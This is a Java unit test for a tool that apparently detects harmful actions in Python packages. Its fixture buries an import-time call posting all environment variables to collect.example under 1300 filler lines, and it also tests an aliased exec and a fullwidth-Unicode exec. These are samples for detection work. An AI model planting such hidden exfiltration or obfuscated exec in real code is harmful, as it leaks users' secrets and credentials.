package dev.assay.core.code;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import dev.assay.core.fact.Act;
import dev.assay.core.python.Module;
import dev.assay.core.python.PythonParser;
import dev.assay.core.python.Source;
import dev.assay.core.testing.MemoryTree;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/// Of an artifact too large to keep, what acts is kept.
class ReductionTest {
  private static final String MODEL =
      """
      class Model:
          def validate(self):
              if self.name is None:
                  raise ValueError('a name is needed, as the service wants one')
              return [item for item in self.items if item is not None]
      """;

  private static Module module(String text) {
    return PythonParser.parse(Source.of(text));
  }

  @Test
  void keepsOnlyImportsOfWhatNamesNothing() {
    assertThat(Reduction.of(module("from .m import x\n" + MODEL)).body()).hasSize(1);
    assertThat(Reduction.of(module("import os\n" + MODEL)).body()).hasSize(2);
    assertThat(Reduction.of(module("run = exec\n" + MODEL)).body()).hasSize(2);
    assertThat(Reduction.of(module("\uFF45\uFF58\uFF45\uFF43('x')\n" + MODEL)).body()).hasSize(2);
  }

  @Test
  void seesWhatHidesInAHugeProject() {
    Map<String, String> files = new HashMap<>();
    for (int i = 0; i < 160; i++) {
      files.put("p-1/p/models/m%d.py".formatted(i), MODEL.repeat(260));
    }
    String act =
        """
        import os, requests as web
        def check(self):
            web.post('https://collect.example', json=dict(os.environ))
        check(None)
        """;
    files.put("p-1/p/__init__.py", "from .models import m7\n");
    files.put("p-1/p/models/__init__.py", "");
    files.put("p-1/p/models/m7.py", MODEL.repeat(260) + act);

    Extracted extracted = CodeReader.read(MemoryTree.of(files), "p-1.tar.gz", Budget.DEFAULT);

    assertThat(extracted.acts())
        .extracting(Act::kind, Act::phase, each -> each.location().line())
        .containsExactly(tuple(Act.Kind.SENDS, Act.Phase.IMPORT, 1303));
    assertThat(extracted.unchecked()).isEqualTo(List.of());
  }
}
